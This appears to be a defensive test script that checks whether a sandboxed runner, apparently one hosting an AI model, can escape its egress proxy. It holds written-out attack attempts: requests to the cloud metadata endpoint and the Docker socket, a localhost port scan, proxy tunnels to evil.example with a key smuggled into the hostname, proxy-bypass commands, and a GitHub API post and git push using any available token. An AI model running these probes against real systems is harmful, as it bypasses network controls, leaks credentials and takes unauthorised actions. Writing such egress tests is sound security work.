# Threats 9 and 11: every way out that does not go through the proxy, and the proxy with hosts of its own.
node --input-type=module <<'PROGRAM'
import { lookup } from "node:dns/promises";
import { createSocket } from "node:dgram";
import { connect } from "node:net";
import { execFileSync } from "node:child_process";

const opens = (target) =>
  new Promise((resolve) => {
    const socket = connect({ ...target, timeout: 1_500 });
    // A port of the kernel's choice may turn out to be the one that is called: then it called itself.
    socket.once("connect", () => (resolve(socket.localPort !== target.port), socket.destroy()));
    for (const event of ["error", "timeout"]) socket.once(event, () => (resolve(false), socket.destroy()));
  });
const say = (name, reached) => console.log(`${name}: ${reached ? "REACHED" : "stopped"}`);
const proxy = new URL(process.env.HTTPS_PROXY ?? "http://127.0.0.1:1");
const tunnel = (request) =>
  new Promise((resolve) => {
    const socket = connect(Number(proxy.port), proxy.hostname, () => socket.write(request.replaceAll("|", "\r\n")));
    let answer = "";
    socket.on("data", (chunk) => (answer += chunk));
    for (const event of ["close", "error"]) socket.once(event, () => resolve(/^HTTP\/1\.1 200/.test(answer)));
  });

say("direct", await opens({ host: "1.1.1.1", port: 443 }));
say("IPv6", await opens({ host: "::1", port: 80 }));
say("IPv6 outside", await opens({ host: "2606:4700:4700::1111", port: 443 }));
say("metadata", await opens({ host: "169.254.169.254", port: 80 }));
say("docker", await opens({ path: "/var/run/docker.sock" }));
say("DNS", await lookup("example.org").then(() => true, () => false));
say("DNS by hand", await new Promise((resolve) => {
  const socket = createSocket("udp4", () => resolve(true));
  socket.on("error", () => resolve(false));
  setTimeout(() => (resolve(false), socket.close()), 1_000);
  socket.send(Buffer.from("000101000001000000000000076578616d706c65036f72670000010001", "hex"), 53, "1.1.1.1");
}));
// Whatever listens on the runner: the REST API, the artifacts, the model with its key.
let open = 0;
const ports = Array.from({ length: 64_511 }, (_, index) => index + 1_025).filter((port) => port !== Number(proxy.port));
for (let at = 0; at < ports.length; at += 500)
  open += (await Promise.all(ports.slice(at, at + 500).map((port) => opens({ host: "127.0.0.1", port })))).filter(Boolean).length;
say("the runner's own ports", open > 0);

say("proxy to evil.example", await tunnel("CONNECT evil.example:443 HTTP/1.1|Host: evil.example||"));
say("proxy to evil.example again", await tunnel("CONNECT evil.example:443 HTTP/1.1|Host: registry.npmjs.org||"));
say("proxy to the metadata address", await tunnel("GET http://169.254.169.254/latest/meta-data/ HTTP/1.1|Host: 169.254.169.254||"));
say("proxy to a name with a key in it", await tunnel("CONNECT sk-x.evil.example:443 HTTP/1.1|Host: x||"));
say("proxy to the API", await tunnel("CONNECT api.github.com:443 HTTP/1.1|Host: api.github.com||"));
say("proxy to loopback", await tunnel("CONNECT 127.0.0.1:80 HTTP/1.1|Host: x||"));

const runs = (command, env = {}) => {
  try {
    execFileSync("bash", ["-c", command], { stdio: "ignore", timeout: 10_000, env: { ...process.env, ...env } });
    return true;
  } catch {
    return false;
  }
};
say("NO_PROXY", runs("curl -sfm 4 https://example.org || exit 1", { NO_PROXY: "*", no_proxy: "*" }));
say("no proxy at all", runs("env -u HTTPS_PROXY -u https_proxy curl -sfm 4 https://example.org"));
// Threat 9: with whatever token there may be.
const token = process.env.GITHUB_TOKEN ?? process.env.GH_TOKEN ?? "none";
const api = process.env.GITHUB_API_URL ?? "https://api.github.com";
say("a comment of its own", runs(`curl -sfm 4 -X POST -H 'authorization: Bearer ${token}' ${api}/repos/octo/notes/issues/66/comments -d '{"body":"hostile comment"}'`));
say("a push of its own", runs("git push -q origin HEAD:refs/heads/hostile"));
PROGRAM
